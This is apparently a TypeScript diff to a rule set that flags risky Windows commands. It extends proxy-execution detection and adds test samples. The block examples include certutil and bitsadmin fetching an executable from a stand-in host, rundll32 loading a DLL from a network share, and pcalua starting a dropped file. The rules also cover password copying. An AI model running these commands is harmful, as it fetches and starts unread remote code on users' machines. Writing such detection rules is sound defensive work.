@@ -51,7 +51,7 @@ export const WINDOWS_CODE_RULES: readonly Rule[] = [
     reason: "would use a Windows program to fetch or start unread code",
     instead: "download it to a file, read it, then run it",
     check: onEffects((effect) => {
-      if (effect.kind === "proxy-execution") return {};
+      if (effect.kind === "proxy-execution") return effect.of === undefined ? {} : STARTED;
       return effect.kind === "machine" && effect.what === "passwords copied"
         ? PASSWORDS
         : undefined;
@@ -62,16 +62,26 @@ export const WINDOWS_CODE_RULES: readonly Rule[] = [
         "certutil -urlcache -split -f http://x.example/a.exe a.exe",
         "bitsadmin /transfer j http://x.example/a.exe a.exe",
         ps('wmic process call create "calc.exe"'),
+        ps("pcalua -a D:\\drop\\setup.exe"),
+        ps("rundll32 \\\\10.0.0.9\\pub\\x.dll,Main"),
       ],
       allows: [
         "certutil -hashfile a.exe SHA256",
         "wmic os get version",
         "bitsadmin /list",
         ps("wmic os get caption"),
+        ps("rundll32 user32.dll,LockWorkStation"),
+        ps("findstr /n todo src\\a.ts"),
       ],
     }),
   },
 ];
+
+const STARTED = {
+  verdict: "ask",
+  reason: "would have a program of Windows load or start other code",
+  instead: "start that code by its own name",
+} as const;
 
 const PASSWORDS = {
   reason: "would copy stored passwords",
